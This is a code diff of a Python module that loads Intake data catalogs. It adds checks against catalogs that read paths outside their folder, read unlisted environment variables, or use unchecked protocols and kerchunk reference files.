+            "(only a local JSON reference file without jinja templates can be); use a "
+            f"plain Zarr store, or {_HINT}"
+        )
+
+    def reference_targets(self, refs: str, written: str, who: str,
+                          field: str) -> list[tuple[str, str]]:
+        """``(key, target URL)`` of every reference in a local kerchunk/fsspec JSON file,
+        as ``ReferenceFileSystem`` (simple templates, no ``gen``) computes them."""
+        path = Path(os.path.abspath(os.path.expanduser(refs)))
+        if path in self.references:
+            return self.references[path]
+        if not path.exists():
+            return []  # nothing can be read through it
+        if ".json" not in refs and (refs.endswith(("parq", "parquet", "/")) or path.is_dir()):
+            raise self.unreadable_references(refs, written, who, field)  # lazy parquet
+        try:
+            with open(path, "rb") as stream:
+                spec = json.load(stream)
+        except (OSError, ValueError):
+            return []  # fsspec cannot load it either
+        if not isinstance(spec, dict):
+            return []
+        version = spec.get("version")
+        if version is None:
+            refs_map, templates = spec, {}
+        elif version == 1:
+            refs_map, templates = spec.get("refs", {}), spec.get("templates", {})
+            if not isinstance(templates, dict) or not all(
+                    isinstance(t, str) and "{{" not in t for t in templates.values()):
+                raise self.unreadable_references(refs, written, who, field)
+        else:
+            return []
+        if not isinstance(refs_map, dict):
+            return []
+        targets: dict[str, str] = {}
+        for key, ref in refs_map.items():
+            if not isinstance(ref, list) or not ref or ref[0] is None:
+                continue  # inline data (or the default target, which needs storage_options)
+            url = ref[0]
+            if not isinstance(url, str):
+                raise self.unreadable_references(refs, written, who, field)
+            if version == 1 and templates and "{{" in url:
+                try:
+                    url = url.replace("{{", "{").replace("}}", "}").format(**templates)
+                except (KeyError, IndexError, ValueError, AttributeError):
+                    raise self.unreadable_references(refs, written, who, field) from None
+            targets.setdefault(url, str(key))
+        out = [(key, url) for url, key in targets.items()]
+        self.references[path] = out
+        return out
+
+
 def check_catalog_paths(catalog: Any, *, allow_outside: AllowOutside = False,
-                        source: str | None = None) -> None:
-    """Refuse a loaded catalog whose entries read local paths outside its folder.
+                        source: str | None = None, trusted: bool = False) -> None:
+    """Refuse a loaded catalog that reads outside its folder or through unchecked channels.
+
+    The location and path rules of this module (see its docstring): every location an
+    entry or data description names, after templates are filled in, must use a remote
+    protocol of :data:`REMOTE_PROTOCOLS` or a local one of :data:`LOCAL_PROTOCOLS`, set only
+    :data:`SAFE_STORAGE_OPTIONS`, and every local path it reaches (reference targets
+    included) must lie in the catalog's folder or a folder of ``allow_outside``.
 
     Parameters
     ----------
     catalog : intake.readers.entry.Catalog
         As returned by :func:`load_catalog` or ``intake.from_yaml_file``.
     allow_outside : bool or iterable of folders, default False
-        True: no check.  Folders: allowed in addition to the catalog's folder.
+        True: any local path (the protocol and storage-option rules still hold).  Folders:
+        allowed in addition to the catalog's folder.
     source : str, optional
         Name of the catalog in error messages.
+    trusted : bool, default False
+        Check nothing (the caller trusts the whole catalog).
 
     Raises
     ------
     PathEscapeError
         Naming the entry, the path as written, where it resolves, the allowed folder(s) and
         the fix.
+    UntrustedCatalogError
+        A protocol outside the lists, a storage option outside the allow-list, or a
+        location that cannot be checked.
 
     Examples
     --------
@@ -391,22 +844,12 @@ def check_catalog_paths(catalog: Any, *, allow_outside: AllowOutside = False,
     """
     base = _catalog_base(catalog)
     roots = _allowed_roots(base, allow_outside)
-    if roots is None:
+    if trusted:
         return
     if source is None:
         path = catalog.user_parameters.get("CATALOG_PATH")
         source = repr(str(getattr(path, "default", path) or "<in-memory catalog>"))
-    for name in sorted(catalog.entries):
-        for url in _entry_urls(catalog, name):
-            for path in _local_paths(url):
-                if _outside(path, roots):
-                    raise PathEscapeError(
-                        f"catalog {source}: entry {name!r} reads {url!r}, which resolves to "
-                        f"{str(path)!r}, outside {_fmt_roots(base, roots)}; move the data "
-                        f"under the catalog's folder, or pass allow_outside=True (any path) "
-                        f"or allow_outside=[{str(path.parent)!r}] if you trust this catalog "
-                        "(command line: --allow-outside)"
-                    )
+    _LocationCheck(catalog, roots, base, source).run()
 
 
 # --- loading ---------------------------------------------------------------------------
@@ -429,18 +872,21 @@ def _read_yaml(path: Path) -> Any:
 
 
 def load_catalog(catalog: Any, *, trusted: bool = False,
-                 allow_outside: AllowOutside = False):
-    """Load an Intake 2 catalog, refusing code references unless ``trusted``.
+                 allow_outside: AllowOutside = False, allow_env: Iterable[str] = ()):
+    """Load an Intake 2 catalog, refusing code, secrets and outside paths unless allowed.
 
     Parameters
     ----------
     catalog : str, path-like or intake.readers.entry.Catalog
         A YAML file, or a catalog already loaded by intake (checked as well).
     trusted : bool, default False
-        Skip the allow-list check (the file may then import and run code).
+        Trust the whole file: skip every check (it may then import and run code, read any
+        environment variable and any path).
     allow_outside : bool or iterable of folders, default False
         Entries must read local paths inside the catalog file's folder; True lifts the
         rule, a list of folders allows these too (see :func:`check_catalog_paths`).
+    allow_env : iterable of str, default ()
+        Environment variables an untrusted catalog may read with ``{env(NAME)}``.
 
     Returns
     -------
@@ -451,10 +897,12 @@ def load_catalog(catalog: Any, *, trusted: bool = False,
     CatalogError
         Missing, unreadable or invalid file.
     UntrustedCatalogError
-        The catalog names code outside the allow-list and ``trusted`` is False.
+        ``trusted`` is False and the catalog names code outside the allow-list, reads an
+        environment variable not in ``allow_env``, uses a protocol or storage option
+        outside the allow-lists, or names a location that cannot be checked.
     PathEscapeError
-        An entry reads a path outside the catalog's folder that ``allow_outside`` does not
-        allow.
+        ``trusted`` is False and an entry reads a path outside the catalog's folder that
+        ``allow_outside`` does not allow.
 
     Examples
     --------
@@ -466,10 +914,12 @@ def load_catalog(catalog: Any, *, trusted: bool = False,
     """
     from intake.readers.entry import Catalog
 
+    allow_env = _env_names(allow_env)
     if isinstance(catalog, Catalog):
         if not trusted:
-            check_catalog_trust(catalog.to_dict(), source=repr(type(catalog).__name__))
-        check_catalog_paths(catalog, allow_outside=allow_outside)
+            check_catalog_trust(catalog.to_dict(), source=repr(type(catalog).__name__),
+                                allow_env=allow_env)
+        check_catalog_paths(catalog, allow_outside=allow_outside, trusted=trusted)
         return catalog
     if not isinstance(catalog, (str, os.PathLike)):
         raise CatalogError(
@@ -482,7 +932,7 @@ def load_catalog(catalog: Any, *, trusted: bool = False,
     if trusted:
         _check_structure(spec, source)
     else:
-        check_catalog_trust(spec, source)
+        check_catalog_trust(spec, source, allow_env=allow_env)
     try:
         cat = Catalog.from_dict(spec)
     except Exception as err:
@@ -490,16 +940,17 @@ def load_catalog(catalog: Any, *, trusted: bool = False,
             f"catalog file {source} is not a valid Intake 2 catalog ({type(err).__name__}: "
             f"{err}); recreate it with ooc_kernels.data.register_dataset"
         ) from None
-    # the same parameters intake.from_yaml_file sets, for {CATALOG_DIR} templates
+    # the same parameters intake.from_yaml_file sets, for {CATALOG_DIR} templates (not
+    # percent-encoded: fsspec opens file:// URLs without decoding them)
     cat.user_parameters["CATALOG_PATH"] = str(path)
-    cat.user_parameters["CATALOG_DIR"] = path.parent.as_uri()
+    cat.user_parameters["CATALOG_DIR"] = "file://" + path.parent.as_posix()
     cat.user_parameters["STORAGE_OPTIONS"] = {}
-    check_catalog_paths(cat, allow_outside=allow_outside, source=source)
+    check_catalog_paths(cat, allow_outside=allow_outside, source=source, trusted=trusted)
     return cat
 
 
 def list_datasets(catalog: Any, *, trusted: bool = False,
-                  allow_outside: AllowOutside = False) -> list[str]:
+                  allow_outside: AllowOutside = False, allow_env: Iterable[str] = ()) -> list[str]:
     """Sorted names of the entries (and aliases) of a catalog.
 
     Examples
@@ -507,7 +958,8 @@ def list_datasets(catalog: Any, *, trusted: bool = False,
     >>> list_datasets("catalogs/examples.yaml")  # doctest: +SKIP
     ['digits_deformed', 'digits_deformed_test', 'nonlinear_binary', 'synthetic_krr_2d']
     """
-    cat = load_catalog(catalog, trusted=trusted, allow_outside=allow_outside)
+    cat = load_catalog(catalog, trusted=trusted, allow_outside=allow_outside,
+                       allow_env=allow_env)
     return sorted(set(cat.entries) | set(cat.aliases))
 
 
@@ -518,11 +970,20 @@ def _entry(cat, name: str):
             f"catalog has no entry {name!r}; available entries: {available}. Pick one of them "
             "or add the dataset with ooc_kernels.data.register_dataset"
         )
-    return cat.entries[cat.aliases.get(name, name)]
+    target = cat.aliases.get(name, name)
+    if target not in cat.entries:
+        raise CatalogError(
+            f"catalog alias {name!r} points at {target!r}, which is not a reader entry of "
+            f"the catalog (entries: {sorted(cat.entries)}); fix the alias in the catalog"
+        )
+    return cat.entries[target]
 
 
 def _data_url(cat, entry) -> str | None:
-    """The url of the data an entry reads (templates left as written)."""
+    """The url of the data an entry reads, its templates filled in as intake fills them
+    (``{CATALOG_DIR}``, user parameters, allowed ``{env(NAME)}``: the catalog has passed
+    :func:`load_catalog`'s checks before this is called)."""
+    desc = entry
     refs = list(entry.kwargs.get("args") or [])
     data = entry.kwargs.get("data")
     if data is not None:
@@ -531,10 +992,22 @@ def _data_url(cat, entry) -> str | None:
         if isinstance(ref, str):
             m = re.match(r"{?data[(]([^)]+)[)]}?", ref)
             if m and m.group(1) in cat.data:
-                return cat.data[m.group(1)].kwargs.get("url")
+                desc = cat.data[m.group(1)]
+                break
         elif hasattr(ref, "kwargs"):
-            return ref.kwargs.get("url")
-    return entry.kwargs.get("url")
+            desc = ref
+            break
+    url = (desc.kwargs or {}).get("url")
+    if not isinstance(url, str) or "{" not in url:
+        return url
+    from intake.readers.user_parameters import set_values
+
+    ups = dict(getattr(desc, "user_parameters", None) or {})
+    ups.update(cat.user_parameters)
+    try:
+        return set_values(ups, {"url": url})["url"]
+    except Exception:  # noqa: BLE001 - an unfillable template: shown as written
+        return url
 
 
 def _resolve(cat, url: str | None) -> str | None:
@@ -545,14 +1018,13 @@ def _resolve(cat, url: str | None) -> str | None:
     if isinstance(base, str):
         url = url.replace("{CATALOG_DIR}", base)
     if url.startswith("file://"):
-        from urllib.parse import unquote, urlparse
-
-        url = os.path.normpath(unquote(urlparse(url).path))
+        url = os.path.normpath(url[len("file://"):])  # as fsspec opens it: not decoded
     return url
 
 
 def describe_catalog(catalog: Any, *, trusted: bool = False,
-                     allow_outside: AllowOutside = False) -> list[dict]:
+                     allow_outside: AllowOutside = False,
+                     allow_env: Iterable[str] = ()) -> list[dict]:
     """One row per entry: ``name``, ``description``, ``path`` (resolved) and ``reader``.
 
     Examples
@@ -564,9 +1036,12 @@ def describe_catalog(catalog: Any, *, trusted: bool = False,
     >>> row["name"], row["description"], row["reader"], os.path.basename(row["path"])
     ('a', 'A', 'intake.readers.readers:XArrayDatasetReader', 'a.zarr')
     """
-    cat = load_catalog(catalog, trusted=trusted, allow_outside=allow_outside)
+    cat = load_catalog(catalog, trusted=trusted, allow_outside=allow_outside,
+                       allow_env=allow_env)
     rows = []
     for name in sorted(set(cat.entries) | set(cat.aliases)):
+        if cat.aliases.get(name, name) not in cat.entries:
+            continue  # an alias of a data description: nothing to open
         entry = _entry(cat, name)
         rows.append({
             "name": name,
@@ -578,7 +1053,7 @@ def describe_catalog(catalog: Any, *, trusted: bool = False,
 
 
 def entry_path(catalog: Any, name: str, *, trusted: bool = False,
-               allow_outside: AllowOutside = False) -> Path:
+               allow_outside: AllowOutside = False, allow_env: Iterable[str] = ()) -> Path:
     """Local path of the Zarr store that entry ``name`` reads (it need not exist yet).
 
     Raises
@@ -598,7 +1073,8 @@ def entry_path(catalog: Any, name: str, *, trusted: bool = False,
     >>> entry_path(os.path.join(d, "c.yaml"), "a").relative_to(d).as_posix()
     'data/a.zarr'
     """
-    cat = load_catalog(catalog, trusted=trusted, allow_outside=allow_outside)
+    cat = load_catalog(catalog, trusted=trusted, allow_outside=allow_outside,
+                       allow_env=allow_env)
     url = _resolve(cat, _data_url(cat, _entry(cat, name)))
     if not isinstance(url, str) or not url or "://" in url or "{" in url:
         raise CatalogError(
@@ -609,7 +1085,8 @@ def entry_path(catalog: Any, name: str, *, trusted: bool = False,
 
 
 def open_dataset(catalog: Any, name: str, *, trusted: bool = False,
-                 allow_outside: AllowOutside = False) -> xr.Dataset:
+                 allow_outside: AllowOutside = False,
+                 allow_env: Iterable[str] = ()) -> xr.Dataset:
     """Open catalog entry ``name`` as a lazy, validated, Dask-backed ``xarray.Dataset``.
 
     Parameters
@@ -617,7 +1094,7 @@ def open_dataset(catalog: Any, name: str, *, trusted: bool = False,
     catalog : str, path-like or intake.readers.entry.Catalog
     name : str
         Entry (or alias) name.
-    trusted, allow_outside
+    trusted, allow_outside, allow_env
         See :func:`load_catalog`.
 
     Returns
@@ -635,7 +1112,8 @@ def open_dataset(catalog: Any, name: str, *, trusted: bool = False,
     --------
     >>> ds = open_dataset("catalogs/examples.yaml", "synthetic_krr_2d")  # doctest: +SKIP
     """
-    cat = load_catalog(catalog, trusted=trusted, allow_outside=allow_outside)
+    cat = load_catalog(catalog, trusted=trusted, allow_outside=allow_outside,
+                       allow_env=allow_env)
     entry = _entry(cat, name)
     try:
         reader = cat[name]
@@ -764,9 +1242,10 @@ def register_dataset(catalog_path: str | os.PathLike, entry: str,
             f"{str(data_abs)!r} resolves to {str(resolved)!r}, outside "
             f"{_fmt_roots(base, roots)}, and readers of the catalog would refuse it; write "
             f"the store under the catalog's folder (e.g. "
-            f"{str(base / 'data' / resolved.name)!r}), or pass allow_outside=True or "
-            f"allow_outside=[{str(resolved.parent)!r}] (readers then need the same; command "
-            "line: --allow-outside)"
+            f"{str(base / 'data' / resolved.name)!r}), or pass "
+            f"allow_outside=[{str(resolved.parent)!r}] or allow_outside=True (readers then "
+            f"need the same, or trusted=True; command line: --data-root "
+            f"{str(resolved.parent)} or --allow-outside)"
         )
     if cat_path.exists():
         spec = _read_yaml(cat_path)
